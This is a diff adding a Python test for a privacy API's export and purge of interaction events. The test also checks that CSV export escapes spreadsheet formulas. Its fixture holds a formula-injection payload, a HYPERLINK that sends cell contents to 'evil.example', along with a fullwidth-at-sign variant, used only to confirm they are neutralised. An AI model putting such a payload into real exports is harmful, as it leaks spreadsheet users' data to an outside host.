@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -130,6 +131,48 @@ def test_purge_export_and_audit_through_the_api(client: Any) -> None:
     assert ops[:3] == ["export", "purge", "purge"]
     assert client.get("/v1/privacy/audit/verify", headers=AUTH).json()["ok"] is True
     assert len(client.get("/v1/privacy/receipts", headers=AUTH).json()["receipts"]) == 1
+
+
+def test_export_and_purge_cover_interaction_events(client: Any) -> None:
+    target, other = vid(), vid()
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1)'
+    clicked = wire_event(visitor_id=target, kind="interaction", name="form", path="/reserve",
+                         target_path=formula, target="＠form")
+    scrolled = wire_event(visitor_id=target, kind="interaction", name="scroll",
+                          scroll_depth=50)
+    engaged = wire_event(visitor_id=other, kind="interaction", name="engaged",
+                         engaged_seconds=30)
+    for event in (clicked, scrolled, engaged):
+        del event["status"]  # the beacon reports no response status
+    post_events(client, [wire_event(visitor_id=target), clicked, scrolled, engaged])
+
+    exported = client.get("/v1/privacy/export", headers=AUTH,
+                          params=why(visitor_id=target)).json()["events"]
+    by_name = {e["name"]: e for e in exported}
+    assert sorted(by_name) == ["form", "pageview", "scroll"]
+    assert by_name["form"]["kind"] == "interaction"
+    assert (by_name["form"]["target_path"], by_name["form"]["target"]) == (formula, "＠form")
+    assert by_name["scroll"]["scroll_depth"] == 50
+    assert by_name["pageview"]["target_path"] == "" and by_name["pageview"]["scroll_depth"] == 0
+
+    zipped = client.get("/v1/privacy/export", headers=AUTH,
+                        params=why(visitor_id=target, format="csv"))
+    text = zipfile.ZipFile(io.BytesIO(zipped.content)).read("events.csv").decode()
+    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(text))}
+    # The spreadsheet gets the text, never a formula (collector.csvsafe, the one neutraliser).
+    assert rows["form"]["target_path"] == "'" + formula
+    assert rows["form"]["target"] == "'＠form"
+    assert (rows["scroll"]["kind"], rows["scroll"]["scroll_depth"]) == ("interaction", "50")
+    assert "engaged_seconds" in rows["scroll"]
+
+    receipt = client.post("/v1/privacy/purge", headers=AUTH,
+                          json={"visitor_id": target, "reason": "r", "requested_by": "dpo"})
+    assert receipt.json()["rows_deleted"]["events"] == 3 and receipt.json()["remaining"] == 0
+    assert client.get("/v1/privacy/export", headers=AUTH,
+                      params=why(visitor_id=target)).json()["events"] == []
+    left = client.get("/v1/privacy/export", headers=AUTH,
+                      params=why(visitor_id=other)).json()["events"]
+    assert [(e["name"], e["engaged_seconds"]) for e in left] == [("engaged", 30)]
 
 
 def login(client: Any) -> None:
